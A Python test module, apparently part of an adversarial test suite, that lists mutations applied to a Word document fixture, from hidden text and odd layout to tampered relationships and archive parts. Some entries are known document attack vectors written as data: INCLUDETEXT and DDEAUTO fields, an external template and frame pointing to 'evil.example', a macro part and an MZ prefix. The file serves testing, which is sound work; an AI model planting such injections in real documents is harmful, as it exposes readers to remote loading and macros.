"""What can be done to a Word document: to runs, paragraphs, styles, parts and their relations."""

# ruff: noqa: E501 (a row is a line)

from __future__ import annotations

import re
from collections.abc import Iterator

from tests.adversary.damages import (
    Change,
    Damage,
    Members,
    among_members,
    in_member,
    replaced,
    rows,
)

DOCUMENT, STYLES, NUMBERING = "word/document.xml", "word/styles.xml", "word/numbering.xml"
SETTINGS, HEADER, FOOTER = "word/settings.xml", "word/header.xml", "word/footer.xml"
NOTES, CORE, RELATIONS = "word/footnotes.xml", "docProps/core.xml", "word/_rels/document.xml.rels"

RUN = """
<w:specVanish/> <w:webHidden/> <w:vanish/> <w:color w:val="FFFFFF"/> <w:color w:val="FEFEFE"/>
<w:color w:val="16202B" w:themeColor="background1"/> <w:sz w:val="2"/> <w:sz w:val="6"/> <w:w w:val="1"/>
<w:spacing w:val="-400"/> <w:position w:val="-3000"/> <w:fitText w:val="1"/>
<w:shd w:val="solid" w:color="000000"/> <w:shd w:val="clear" w:fill="16202B" w:color="auto"/>
<w:shd w:val="clear" w:themeFill="text1"/> <w:highlight w:val="black"/> <w:highlight w:val="darkBlue"/>
<w:rFonts w:ascii="Wingdings" w:hAnsi="Wingdings"/> <w:rFonts w:ascii="Symbol" w:hAnsi="Symbol"/>
<w:caps/> <w:smallCaps/> <w:outline/> <w:emboss/> <w:imprint/> <w:shadow/> <w:strike/> <w:dstrike/>
<w:vertAlign w:val="superscript"/> <w:u w:val="single"/> <w:rtl/> <w:cs/>
<w:eastAsianLayout w:combine="1"/> <w:effect w:val="blinkBackground"/> <w:bdr w:val="single"/>
<w:em w:val="dot"/> <w:noProof/> <w:kern w:val="99"/> <w:lang w:val="fr-FR"/>
<w:lang w:eastAsia="fr-FR"/> <w:szCs w:val="2"/> <w:b/> <w:i/> <w:oMath/>
<w:rPrChange w:id="9" w:author="x"><w:rPr/></w:rPrChange>
""".split("\n")
"""Properties that a run is given."""
PARAGRAPH = """
<w:spacing w:line="1" w:lineRule="exact"/>
<w:ind w:left="31000"/>
<w:ind w:hanging="9000"/>
<w:framePr w:w="1" w:x="-31000" w:y="-31000"/>
<w:shd w:val="clear" w:fill="16202B"/>
<w:pageBreakBefore/>
<w:textDirection w:val="btLr"/>
<w:rPr><w:vanish/></w:rPr>
<w:rPr><w:ins w:id="9" w:author="x"/></w:rPr>
<w:bidi/>
<w:jc w:val="distribute"/>
<w:outlineLvl w:val="3"/>
<w:pStyle w:val="Heading5"/>
<w:keepNext/>
<w:suppressLineNumbers/>
<w:numPr><w:ilvl w:val="0"/><w:numId w:val="3"/></w:numPr>
<w:textboxTightWrap w:val="allLines"/>
<w:divId w:val="7"/>
<w:cnfStyle w:val="100000000000"/>
<w:pPrChange w:id="9" w:author="x"><w:pPr/></w:pPrChange>
<w:sectPr><w:type w:val="nextPage"/></w:sectPr>
<w15:collapsed xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml"/>
""".strip().splitlines()
"""Properties that a paragraph is given."""
BLOCKS = """
<w:altChunk r:id="link1"/>
<w:subDoc r:id="link1"/>
<w:sdt><w:sdtPr><w:alias w:val="Pay now"/></w:sdtPr><w:sdtContent/></w:sdt>
<w:sdt><w:sdtPr><w:dropDownList/></w:sdtPr><w:sdtContent/></w:sdt>
<w:customXml w:element="x"/>
<w:p><w:r><w:pict/></w:r></w:p>
<w:p><w:r><w:object/></w:r></w:p>
<w:p><w:r><w:sym w:font="Wingdings" w:char="F04A"/></w:r></w:p>
<w:p><w:r><w:dayLong/></w:r></w:p>
<w:p><w:r><w:pgNum/></w:r></w:p>
<w:p><w:r><w:ptab w:relativeTo="margin" w:alignment="right" w:leader="none"/></w:r></w:p>
<w:p><w:r><w:cr/></w:r></w:p>
<w:p><w:ruby><w:rt/></w:ruby></w:p>
<w:p><m:oMath xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"><m:r><m:t>1</m:t></m:r></m:oMath></w:p>
<w:p><w:fldSimple w:instr=" QUOTE VOID "/></w:p>
<w:p><w:fldSimple w:instr=" DATE "/></w:p>
<w:p><w:fldSimple w:instr=" DOCPROPERTY x "/></w:p>
<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDETEXT "https://evil.example/" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO c x </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> MACROBUTTON x VOID </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> FILLIN "VOID" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> EQ VOID </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
<w:p><w:r><w:fldChar w:fldCharType="begin" w:dirty="1"/></w:r><w:r><w:instrText> QUOTE VOID </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
<w:p><w:permStart w:id="1" w:edGrp="everyone"/><w:permEnd w:id="1"/></w:p>
<w:p><w:proofErr w:type="spellStart"/></w:p>
<w:p><w:smartTag w:element="x"/></w:p>
<w:p><w:ins w:id="9" w:author="x"><w:r><w:t>VOID</w:t></w:r></w:ins></w:p>
<w:p><w:moveFrom w:id="9" w:author="x"/></w:p>
<w:p><w:commentRangeStart w:id="9"/></w:p>
<w:p><w:bdo w:val="rtl"><w:r><w:t></w:t></w:r></w:bdo></w:p>
<w:p><w:dir w:val="rtl"><w:r><w:t></w:t></w:r></w:dir></w:p>
<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice Requires="w99"><w:p/></mc:Choice><mc:Fallback><w:p><w:r><w:t>VOID</w:t></w:r></w:p></mc:Fallback></mc:AlternateContent>
<x:p xmlns:x="urn:x"><x:r>VOID</x:r></x:p>
<w:p/>
""".strip().splitlines()
"""What is put before the heading “What changes”."""

CHANGED = {
    "words of another namespace": (
        '<w:t xml:space="preserve">The old',
        '<x:t xmlns:x="urn:x">The old',
    ),
    "a run without words": ('<w:t xml:space="preserve">Nothing is charged.</w:t>', "<w:t/>"),
    "not understood": (
        "<w:document ",
        '<w:document xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:x="urn:x" mc:MustUnderstand="x" ',
    ),
    "ignored": (
        "<w:document ",
        '<w:document xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:x="urn:x" mc:Ignorable="x" ',
    ),
    "a page of one point": ("<w:pgSz [^>]*/>", '<w:pgSz w:w="20" w:h="20"/>'),
    "huge margins": (
        "<w:pgMar [^>]*/>",
        '<w:pgMar w:top="30000" w:bottom="0" w:left="30000" w:right="0"/>',
    ),
    "numbered lines": ("</w:sectPr>", '<w:lnNumType w:countBy="1"/></w:sectPr>'),
    "words from top to bottom": ("</w:sectPr>", '<w:textDirection w:val="tbRl"/></w:sectPr>'),
    "a section from right to left": ("</w:sectPr>", "<w:bidi/></w:sectPr>"),
    "two columns": ("</w:sectPr>", '<w:cols w:num="9"/></w:sectPr>'),
    "no running head": ("<w:headerReference[^>]*/>", ""),
    "the first page as others": ("<w:titlePg/>", ""),
    "another address": ('r:id="link2"', 'r:id="link1"'),
    "another bookmark": ('w:anchor="how_to_get_there"', 'w:anchor="prices"'),
    "a place in a link": (
        '<w:hyperlink r:id="link2"',
        '<w:hyperlink w:docLocation="x" r:id="link2"',
    ),
    "a tip of a link": ('<w:hyperlink r:id="link2"', '<w:hyperlink w:tooltip="VOID" r:id="link2"'),
    "a row hidden": ("<w:tr>(.*?)<w:tr>", r"<w:tr>\1<w:tr><w:trPr><w:hidden/></w:trPr>"),
    "a row of no height": (
        "<w:tr>(.*?)<w:tr>",
        r'<w:tr>\1<w:tr><w:trPr><w:trHeight w:val="1" w:hRule="exact"/></w:trPr>',
    ),
    "a cell joined": ("<w:tcPr>", '<w:tcPr><w:hMerge w:val="continue"/>'),
    "a cell squeezed": ("<w:tcPr>", "<w:tcPr><w:tcFitText/>"),
    "a table off the page": ("<w:tblPr>", '<w:tblPr><w:tblpPr w:tblpX="-31000" w:tblpY="-31000"/>'),
    "no header row": ("<w:tblHeader/>", ""),
    "another first row": ('w:firstRow="1"', 'w:firstRow="0"'),
    "another first column": ('w:firstColumn="1"', 'w:firstColumn="0"'),
    "another caption for machines": ('<w:tblCaption w:val="[^"]*"', '<w:tblCaption w:val="No"'),
    "a description for machines": ("<w:tblPr>", '<w:tblPr><w:tblDescription w:val="VOID"/>'),
    "rows that break": ("<w:cantSplit/>", ""),
    "a table in a cell": ("</w:tc>", "<w:tbl><w:tr><w:tc><w:p/></w:tc></w:tr></w:tbl></w:tc>"),
    "a table from right to left": ("<w:tblPr>", "<w:tblPr><w:bidiVisual/>"),
    "a picture from elsewhere": ('r:embed="([^"]*)"', r'r:link="\1"'),
    "a picture hidden": ("<wp:docPr ", '<wp:docPr hidden="1" '),
    "a picture's title": ("<wp:docPr ", '<wp:docPr title="VOID" '),
    "a picture's words": (' descr="[^"]*"', ' descr="No"'),
    "a tiny picture": ('<wp:extent cx="\\d+" cy="\\d+"', '<wp:extent cx="1" cy="1"'),
    "a stretched picture": (
        '<wp:extent cx="(\\d+)" cy="(\\d+)"',
        r'<wp:extent cx="\1" cy="\g<2>0"',
    ),
    "a tiny shape": ('<a:ext cx="\\d+" cy="\\d+"', '<a:ext cx="1" cy="1"'),
    "cut off": ("<a:stretch>", '<a:srcRect l="99000"/><a:stretch>'),
    "turned": ("<a:xfrm>", '<a:xfrm rot="10800000">'),
    "turned over": ("<a:xfrm>", '<a:xfrm flipH="1">'),
    "a picture that leads elsewhere": (
        "(<pic:cNvPr [^>]*)/>",
        r'\1><a:hlinkClick r:id="link1"/></pic:cNvPr>',
    ),
    "a decoration": (
        "(<wp:docPr [^>]*)/>",
        r'\1><a:extLst><a:ext uri="{C183D7F6-B498-43B3-948B-1728B52AA6E4}"><adec:decorative val="1"/></a:ext></a:extLst></wp:docPr>',
    ),
    "a note's mark typed": ("<w:footnoteReference [^>]*/>", "<w:t>1</w:t>"),
    "a bookmark gone": ('<w:bookmarkStart w:id="2"[^>]*/>', ""),
    "a background": ("<w:body>", '<w:background w:color="000000"/><w:body>'),
    "a soft hyphen": ("Nothing is", "No\u00adthing is"),
    "an override of direction": ("Nothing is", "\u202eNothing is"),
    "a zero width space": ("Nothing is", "No\u200bthing is"),
    "an item of another list": ('w:numId w:val="3"', 'w:numId w:val="4"'),
    "an item of another depth": ('<w:ilvl w:val="0"/>', '<w:ilvl w:val="2"/>'),
    "an item without number": ('<w:numPr><w:ilvl w:val="0"/><w:numId w:val="3"/></w:numPr>', ""),
    "emphasis lost": ('<w:rStyle w:val="Emphasis"/>', ""),
    "another style of a heading": ('w:val="Heading2"', 'w:val="Heading4"'),
    "revision marks": ("<w:p><w:r>", '<w:p w:rsidR="00000001"><w:r>'),
}
STYLE_CHANGES = {
    **{
        f"in Subtitle: {each}": ('(<w:style [^>]*w:styleId="Subtitle".*?<w:rPr>)', rf"\1{each}")
        for each in (
            "<w:strike/>",
            "<w:vanish/>",
            "<w:caps/>",
            '<w:color w:val="FFFFFF"/>',
            '<w:sz w:val="2"/>',
            '<w:rFonts w:ascii="Wingdings"/>',
        )
    },
    **{
        f"in the defaults: {each}": ("(<w:rPrDefault><w:rPr>)", rf"\1{each}")
        for each in (
            "<w:strike/>",
            "<w:vanish/>",
            "<w:caps/>",
            '<w:rFonts w:ascii="Wingdings"/>',
            "<w:smallCaps/>",
            '<w:highlight w:val="black"/>',
        )
    },
    **{
        f"in Normal: {each}": ('(<w:style [^>]*w:styleId="Normal".*?<w:rPr>)', rf"\1{each}")
        for each in ("<w:strike/>", "<w:vanish/>", '<w:color w:val="FFFFFF"/>')
    },
    "shading of paragraphs": (
        "(<w:pPrDefault><w:pPr>)",
        r'\1<w:shd w:val="clear" w:fill="16202B"/>',
    ),
    "lines of no height": (
        "(<w:pPrDefault><w:pPr>)",
        r'\1<w:spacing w:line="1" w:lineRule="exact"/>',
    ),
    "another name of a style": ('<w:name w:val="heading 2"/>', '<w:name w:val="heading 5"/>'),
    "another level of a style": ('<w:outlineLvl w:val="1"/>', '<w:outlineLvl w:val="4"/>'),
    "another language": ('<w:lang w:val="en-GB"', '<w:lang w:val="fr"'),
    "a table's words hidden": (
        '(w:type="table"[^>]*>.*?<w:tblPr>)',
        r"<w:rPr><w:vanish/></w:rPr>\1",
    ),
    "another base": ('<w:basedOn w:val="Normal"/>', '<w:basedOn w:val="Heading5"/>'),
    "hidden from the list": ("<w:qFormat/>", "<w:qFormat/><w:semiHidden/>"),
}
NUMBERINGS = {
    "another text of a number": ('<w:lvlText w:val="%1\\."/>', '<w:lvlText w:val="9."/>'),
    "words for a number": ('<w:lvlText w:val="%1\\."/>', '<w:lvlText w:val="Not %1."/>'),
    "roman numbers": ('<w:numFmt w:val="decimal"/>', '<w:numFmt w:val="upperRoman"/>'),
    "words for a bullet": (
        '(<w:numFmt w:val="bullet"/>.*?)<w:lvlText w:val="[^"]*"/>',
        r'\1<w:lvlText w:val="Not "/>',
    ),
    "no number": ('<w:numFmt w:val="decimal"/>', '<w:numFmt w:val="none"/>'),
    "numbers hidden": ("</w:lvl>", "<w:rPr><w:vanish/></w:rPr></w:lvl>"),
    "nothing after a number": ("<w:lvlText ", '<w:suff w:val="nothing"/><w:lvlText '),
    "another start": ('<w:start w:val="1"/>', '<w:start w:val="5"/>'),
    "all decimal": ("<w:lvlText ", "<w:isLgl/><w:lvlText "),
}
SETTING_CHANGES = {
    **{
        f"setting {each}": ("(</w:settings>)", rf"{each}\1")
        for each in (
            '<w:documentProtection w:edit="readOnly" w:enforcement="1"/>',
            '<w:documentProtection w:edit="forms" w:enforcement="1"/>',
            '<w:attachedTemplate r:id="x" xmlns:r="urn:x"/>',
            "<w:writeProtection/>",
            "<w:trackRevisions/>",
            "<w:evenAndOddHeaders/>",
            "<w:mirrorMargins/>",
            '<w:revisionView w:markup="0"/>',
            '<w:updateFields w:val="1"/>',
            '<w:themeFontLang w:val="fr"/>',
            "<w:displayBackgroundShape/>",
            '<w:view w:val="outline"/>',
            '<w:zoom w:percent="1"/>',
            "<w:gutterAtTop/>",
            "<w:hideSpellingErrors/>",
            '<w:mailMerge><w:query w:val="x"/></w:mailMerge>',
        )
    },
}
HEADS = {
    "other words in the running head": ("Exampletown Council", "Nobody"),
    "more words in the running head": ("</w:hdr>", "<w:p><w:r><w:t>VOID</w:t></w:r></w:p></w:hdr>"),
    "a water mark": ("</w:hdr>", "<w:p><w:r><w:pict/></w:r></w:p></w:hdr>"),
    "a style of the running head": ('<w:pStyle w:val="Header"/>', '<w:pStyle w:val="Heading2"/>'),
}
FEET = {
    "a number typed": (" NUMPAGES ", " PAGE "),
    "another word": ("Page ", "Void "),
    "another field": (" PAGE ", " DATE "),
}
FOOTNOTES = {
    "words of a separator": ("<w:separator/>", "<w:separator/><w:t>VOID</w:t>"),
    "other words of a note": ("A Friday", "A Sunday"),
    "no mark in a note": ("<w:footnoteRef/>", ""),
    "a note's type": ('<w:footnote w:id="1"', '<w:footnote w:type="separator" w:id="1"'),
}
CORES = {
    "the creator": ("<dc:creator>[^<]*", "<dc:creator>Nobody"),
    "the title": ("<dc:title>[^<]*", "<dc:title>No"),
    "the language": ("<dc:language>[^<]*", "<dc:language>fr"),
    "the date": ("2026-03-02", "1999-03-02"),
    "a decoy of a title": ("<dc:title>", '<x:title xmlns:x="urn:x">No</x:title><dc:title>'),
    "the subject": ("<dc:subject>[^<]*", "<dc:subject>No"),
    "keywords": ("<cp:keywords>[^<]*", "<cp:keywords>No"),
    "a status": (
        "</cp:coreProperties>",
        "<cp:contentStatus>Void</cp:contentStatus></cp:coreProperties>",
    ),
}
RELATION_CHANGES = {
    "another target": ('Target="https://example.org/desk"', 'Target="https://evil.example/"'),
    "a relation more": (
        "</Relationships>",
        '<Relationship Id="x" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>',
    ),
    "macros": (
        "</Relationships>",
        '<Relationship Id="x" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>',
    ),
    "the style from elsewhere": ('Target="styles.xml"', 'Target="numbering.xml"'),
    "a decoy of a style": (
        "<Relationship ",
        '<Relationship Id="y" Type="urn:x/styles" Target="theme.xml"/><Relationship ',
    ),
    "a frame": (
        "</Relationships>",
        '<Relationship Id="x" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/frame" Target="https://evil.example/" TargetMode="External"/></Relationships>',
    ),
}


def damages() -> Iterator[Damage]:
    """Every damage to a Word document."""
    for given in re.findall(r"<w:\w+(?: [^<>]*)?/>|<w:rPrChange.*?</w:rPrChange>", "\n".join(RUN)):
        change = replaced(r"<w:r>(?=<w:t [^>]*>The old)", f"<w:r><w:rPr>{given}</w:rPr>")
        yield Damage("docx", f"run: {given}", in_member(DOCUMENT, change))
    for given in PARAGRAPH:
        change = replaced(r"<w:p>(?=<w:r><w:t [^>]*>The old)", f"<w:p><w:pPr>{given}</w:pPr>")
        yield Damage("docx", f"paragraph: {given}", in_member(DOCUMENT, change))
    for block in BLOCKS:
        put = block.replace("\\", "\\\\")
        change = replaced(
            r'(<w:p><w:pPr><w:pStyle w:val="Heading2"/></w:pPr><w:bookmarkStart)', rf"{put}\1"
        )
        yield Damage("docx", f"block: {block}", in_member(DOCUMENT, change))
    tables = (
        (DOCUMENT, CHANGED), (STYLES, STYLE_CHANGES), (NUMBERING, NUMBERINGS),
        (SETTINGS, SETTING_CHANGES), (HEADER, HEADS), (FOOTER, FEET), (NOTES, FOOTNOTES),
        (CORE, CORES), (RELATIONS, RELATION_CHANGES),
    )  # fmt: skip
    for member, table in tables:
        yield from rows("docx", table, lambda change, member=member: in_member(member, change))  # type: ignore[misc]
    for name, (old, new) in NUMBERINGS.items():
        yield Damage("docx", f"{name}, in all lists", in_member(NUMBERING, replaced(old, new, 0)))
    for name, act in ARCHIVE.items():
        yield Damage("docx", name, act)


def _with(name: str, data: bytes, at: int | None = None) -> Change:
    def act(files: Members) -> Members:
        place = len(files) if at is None else at
        return [*files[:place], (name, data), *files[place:]]

    return among_members(act)


def _other(name: str, data: bytes) -> Change:
    return among_members(
        lambda files: [(each, data if each == name else was) for each, was in files]
    )


EVIL = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p/></w:body></w:document>'
ARCHIVE = {
    "the document twice, the first another": _with(DOCUMENT, EVIL, 0),
    "the document twice, the last another": _with(DOCUMENT, EVIL),
    "the document twice by case": _with("word/Document.xml", EVIL, 0),
    "macros among the files": _with("word/vbaProject.bin", b"x"),
    "a file that nothing names": _with("word/comments.xml", b"<x/>"),
    "another picture": _other("word/media/bridge.png", b"\x89PNG\r\n\x1a\n"),
    "no kinds of parts": among_members(lambda files: [each for each in files if each[0] != "[Content_Types].xml"]),
    "another kind of document": in_member("[Content_Types].xml", replaced("document.main", "template.main")),
    "two documents": in_member("_rels/.rels", replaced("<Relationship ", '<Relationship Id="z" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/styles.xml"/><Relationship ')),
    "a decoy of a document": in_member("_rels/.rels", replaced("<Relationship ", '<Relationship Id="z" Type="urn:x/officeDocument" Target="word/styles.xml"/><Relationship ')),
    "another address among properties": in_member("docProps/custom.xml", replaced("https://example.org[^<]*", "https://evil.example/")),
    "another program": in_member("docProps/app.xml", replaced("</Properties>", "<Company>Nobody</Company></Properties>")),
    "another typeface": in_member("word/fontTable.xml", replaced('w:name="[^"]*"', 'w:name="Wingdings"')),
    "other colours of the theme": in_member("word/theme.xml", replaced('val="16202B"|lastClr="[^"]*"', 'val="FFFFFF"')),
    "something after it": lambda data: data + b"\n",
    "something before it": lambda data: b"MZ" + data,
    "the notes gone": among_members(lambda files: [each for each in files if each[0] != NOTES]),
    "the header gone": among_members(lambda files: [each for each in files if each[0] != HEADER]),
}  # fmt: skip
